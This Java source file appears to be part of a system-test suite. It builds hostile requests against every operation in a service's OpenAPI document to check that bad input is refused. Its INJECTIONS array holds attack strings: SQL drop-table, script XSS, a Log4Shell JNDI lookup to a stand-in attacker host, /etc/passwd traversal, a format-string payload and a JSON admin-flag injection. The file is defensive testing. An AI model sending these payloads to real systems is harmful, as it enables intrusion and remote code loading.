package com.example.fulfillment.systemtest;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Hostile requests for every operation a service's OpenAPI document declares, made from the document itself so
 * that a new endpoint is tried without anyone listing it. For each JSON body: a well-typed base body built from its
 * schema, then the base spoilt one field at a time (NUL and control characters, injection strings, fractions and
 * text where a count is asked, numbers beyond any range), plus bodies that are no JSON of any resource.
 */
final class HostileCases {

    /** What a case expects: a refusal naming a field, any refusal, or simply no server error. */
    enum Expect { FIELD_REFUSED, REFUSED, TOO_LARGE, NO_SERVER_ERROR, UNAUTHENTICATED, FORBIDDEN }

    /** as: whose token the case is sent with (one allowed to call the operation), null for none. */
    record Case(String service, String method, String path, String contentType, byte[] body, Expect expect,
            String field, String what, Identity as) {

        String describe() {
            return service + " " + method + " " + path + ": " + what;
        }
    }

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] INJECTIONS = {"'; drop table orders; --", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/x}", "../../../../etc/passwd", "%s%s%s%n", "\"},{\"admin\":true"};

    private final String service;
    private final JsonNode components;
    private final List<Case> cases = new ArrayList<>();
    /** Who sends the cases of the operation being generated. */
    private Identity caller;

    private HostileCases(String service, JsonNode openApi) {
        this.service = service;
        this.components = openApi.path("components").path("schemas");
    }

    static List<Case> of(String service, JsonNode openApi) {
        HostileCases generator = new HostileCases(service, openApi);
        openApi.path("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(
                operation -> generator.operation(operation.getKey().toUpperCase(), path.getKey(), operation.getValue())));
        return generator.cases;
    }

    private void operation(String method, String template, JsonNode operation) {
        String path = template.replaceAll("\\{[^}]+}", "hostile-test");
        List<String> roles = rolesOf(operation);
        caller = null;
        if (!roles.isEmpty()) {
            // who may call it is in its OpenAPI security requirement (from @RolesAllowed): without a token, 401;
            // with the token of someone holding none of its roles, 403; every other case is sent by one who may
            // sent as the operation's own media type: content negotiation answers before the security check
            String mediaType = operation.path("requestBody").path("content").fieldNames().hasNext()
                    ? operation.path("requestBody").path("content").fieldNames().next() : null;
            add(method, path, mediaType, null, Expect.UNAUTHENTICATED, null, "no access token");
            if (!template.startsWith("/ops")) { // the page takes no bearer tokens: it sends people to the login
                java.util.Arrays.stream(Identity.values()).filter(who -> !roles.contains(who.role)).findFirst()
                        .ifPresent(outsider -> cases.add(new Case(service, method, path, mediaType, null,
                                Expect.FORBIDDEN, null, "the token of " + outsider + " (" + outsider.role
                                        + "), not one of " + roles, outsider)));
            }
            caller = java.util.Arrays.stream(Identity.values()).filter(who -> roles.contains(who.role))
                    .filter(who -> who.role.equals(roles.get(0))).findFirst().orElseThrow(
                            () -> new IllegalStateException("no demo identity holds any of " + roles));
        }
        if (template.contains("{")) {
            add(method, template.replaceFirst("\\{[^}]+}", "a%00b").replaceAll("\\{[^}]+}", "x"), null, null,
                    Expect.FIELD_REFUSED, "(path)", "NUL in a path parameter");
            add(method, template.replaceFirst("\\{[^}]+}", "x".repeat(5000)).replaceAll("\\{[^}]+}", "x"), null, null,
                    Expect.NO_SERVER_ERROR, null, "a path parameter of 5,000 characters");
        }
        for (JsonNode parameter : operation.path("parameters")) {
            if ("query".equals(parameter.path("in").asText())) {
                String name = parameter.path("name").asText();
                String type = schema(parameter.path("schema")).path("type").asText();
                add(method, path + "?" + name + "=a%00b", null, null, Expect.FIELD_REFUSED, name,
                        "NUL in query " + name);
                if ("integer".equals(type)) {
                    add(method, path + "?" + name + "=99999999999999999999", null, null, Expect.REFUSED, null,
                            "query " + name + " beyond any integer");
                    add(method, path + "?" + name + "=-1", null, null, Expect.NO_SERVER_ERROR, null,
                            "query " + name + " negative");
                }
            }
        }
        JsonNode body = operation.path("requestBody").path("content").path("application/json").path("schema");
        if (body.isMissingNode()) {
            return;
        }
        ObjectNode base = baseOf(schema(body), 0) instanceof ObjectNode object ? object : null;
        raw(method, path, "{\"a\":", Expect.REFUSED, "malformed JSON");
        raw(method, path, "[]", Expect.REFUSED, "an array for an object");
        raw(method, path, "\"text\"", Expect.REFUSED, "a string for an object");
        raw(method, path, "{} {}", Expect.REFUSED, "two JSON values");
        raw(method, path, "{\"x\":" + "[".repeat(500) + "]".repeat(500) + "}", Expect.REFUSED, "nested 500 deep");
        add(method, path, "application/json", new byte[] {'{', '"', (byte) 0xff, (byte) 0xfe, '"', ':', '1', '}'},
                Expect.REFUSED, null, "invalid UTF-8");
        add(method, path, "application/json", ("{\"x\":\"" + "x".repeat(20 * 1024 * 1024) + "\"}")
                .getBytes(StandardCharsets.UTF_8), Expect.TOO_LARGE, null, "a body of 20 MB");
        add(method, path, "text/plain", "hello".getBytes(StandardCharsets.UTF_8), Expect.REFUSED, null,
                "text/plain for JSON");
        if (base == null) {
            return;
        }
        String json = base.toString();
        raw(method, path, json.substring(0, json.length() / 2), Expect.REFUSED, "the base body cut in half");
        ObjectNode unknown = base.deepCopy();
        unknown.put("giftMesage", "typo");
        raw(method, path, unknown.toString(), Expect.FIELD_REFUSED, "giftMesage", "an unknown field");
        spoil(method, path, base, "", schema(body), 0);
    }

    /** Each leaf of the body, spoilt in turn, the rest of the base left as it was. */
    private void spoil(String method, String path, ObjectNode base, String prefix, JsonNode schema, int depth) {
        if (depth > 4) {
            return;
        }
        Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields();
        while (properties.hasNext()) {
            Map.Entry<String, JsonNode> property = properties.next();
            String field = prefix + property.getKey();
            JsonNode type = schema(property.getValue());
            switch (type.path("type").asText(type.has("properties") ? "object" : "")) {
                case "string" -> {
                    if (type.has("enum") || type.has("format")) {
                        replace(method, path, base, field, NODES.textNode("NOT_A_VALUE"), Expect.REFUSED,
                                "a value its type does not take in " + field);
                        continue;
                    }
                    replace(method, path, base, field, NODES.textNode("a\u0000b"), Expect.FIELD_REFUSED,
                            "NUL in " + field);
                    replace(method, path, base, field, NODES.textNode("bell\u0007"), Expect.FIELD_REFUSED,
                            "a control character in " + field);
                    replace(method, path, base, field, NODES.numberNode(42), Expect.FIELD_REFUSED,
                            "a number for text in " + field);
                    for (String injection : INJECTIONS) {
                        replace(method, path, base, field, NODES.textNode(injection), Expect.NO_SERVER_ERROR,
                                "injection " + injection + " in " + field);
                    }
                }
                case "integer" -> {
                    replace(method, path, base, field, NODES.numberNode(1.9), Expect.FIELD_REFUSED,
                            "1.9 in " + field);
                    replace(method, path, base, field, NODES.textNode("3"), Expect.FIELD_REFUSED, "\"3\" in " + field);
                    replace(method, path, base, field, NODES.numberNode(new java.math.BigInteger("99999999999999999999")),
                            Expect.FIELD_REFUSED, "a number beyond any integer in " + field);
                    replace(method, path, base, field, NODES.numberNode(-2147483648), Expect.NO_SERVER_ERROR,
                            "the smallest int in " + field);
                    replace(method, path, base, field, NODES.numberNode(2147483647), Expect.NO_SERVER_ERROR,
                            "the largest int in " + field);
                }
                case "number" -> {
                    replace(method, path, base, field, NODES.textNode("abc"), Expect.FIELD_REFUSED,
                            "text in number " + field);
                    replace(method, path, base, field, NODES.numberNode(new java.math.BigDecimal("1e400")),
                            Expect.NO_SERVER_ERROR, "1e400 in " + field);
                    replace(method, path, base, field, NODES.numberNode(new java.math.BigDecimal("-0.001")),
                            Expect.NO_SERVER_ERROR, "a negative fraction in " + field);
                }
                case "boolean" -> replace(method, path, base, field, NODES.textNode("yes"), Expect.FIELD_REFUSED,
                        "\"yes\" in boolean " + field);
                case "object" -> spoil(method, path, base, field + ".", type, depth + 1);
                default -> {
                }
            }
        }
    }

    private void replace(String method, String path, ObjectNode base, String field, JsonNode value, Expect expect,
            String what) {
        ObjectNode spoilt = base.deepCopy();
        String[] steps = field.split("\\.");
        ObjectNode at = spoilt;
        for (int i = 0; i < steps.length - 1; i++) {
            if (!(at.get(steps[i]) instanceof ObjectNode inner)) {
                return;
            }
            at = inner;
        }
        at.set(steps[steps.length - 1], value);
        add(method, path, "application/json", spoilt.toString().getBytes(StandardCharsets.UTF_8), expect, field, what);
    }

    private void raw(String method, String path, String body, Expect expect, String what) {
        raw(method, path, body, expect, null, what);
    }

    private void raw(String method, String path, String body, Expect expect, String field, String what) {
        add(method, path, "application/json", body.getBytes(StandardCharsets.UTF_8), expect, field, what);
    }

    private void add(String method, String path, String contentType, byte[] body, Expect expect, String field,
            String what) {
        cases.add(new Case(service, method, path, contentType, body, expect, field, what, caller));
    }

    /** The roles of the operation's security requirements; empty for an operation anyone may call. */
    private static List<String> rolesOf(JsonNode operation) {
        List<String> roles = new ArrayList<>();
        for (JsonNode requirement : operation.path("security")) {
            requirement.fields().forEachRemaining(scheme -> scheme.getValue()
                    .forEach(role -> roles.add(role.asText())));
        }
        return roles;
    }

    /** A well-typed value for the schema: every property, objects filled in to a few levels. */
    private JsonNode baseOf(JsonNode schema, int depth) {
        String type = schema.path("type").asText(schema.has("properties") ? "object" : "");
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                if (depth < 5) {
                    schema.path("properties").fields().forEachRemaining(
                            property -> object.set(property.getKey(), baseOf(schema(property.getValue()), depth + 1)));
                }
                yield object;
            }
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                JsonNode item = baseOf(schema(schema.path("items")), depth + 1);
                if (!item.isNull()) {
                    array.add(item);
                }
                yield array;
            }
            case "string" -> NODES.textNode(stringFor(schema));
            case "integer" -> NODES.numberNode(1);
            case "number" -> NODES.numberNode(new java.math.BigDecimal("1.00"));
            case "boolean" -> NODES.booleanNode(false);
            default -> NODES.nullNode();
        };
    }

    private static String stringFor(JsonNode schema) {
        if (schema.has("enum")) {
            return schema.path("enum").get(0).asText();
        }
        return switch (schema.path("format").asText()) {
            case "date" -> "2026-12-24";
            case "date-time" -> "2026-12-01T10:00:00Z";
            case "email" -> "hostile@example.com";
            case "uuid" -> "00000000-0000-0000-0000-000000000000";
            default -> "x";
        };
    }

    /** Follows a $ref (and an allOf of one) to the schema it names. */
    private JsonNode schema(JsonNode schema) {
        JsonNode current = schema;
        for (int hops = 0; hops < 10; hops++) {
            if (current.has("$ref")) {
                String ref = current.path("$ref").asText();
                current = components.path(ref.substring(ref.lastIndexOf('/') + 1));
            } else if (current.has("allOf") && current.path("allOf").size() == 1) {
                current = current.path("allOf").get(0);
            } else {
                return current;
            }
        }
        return current;
    }
}
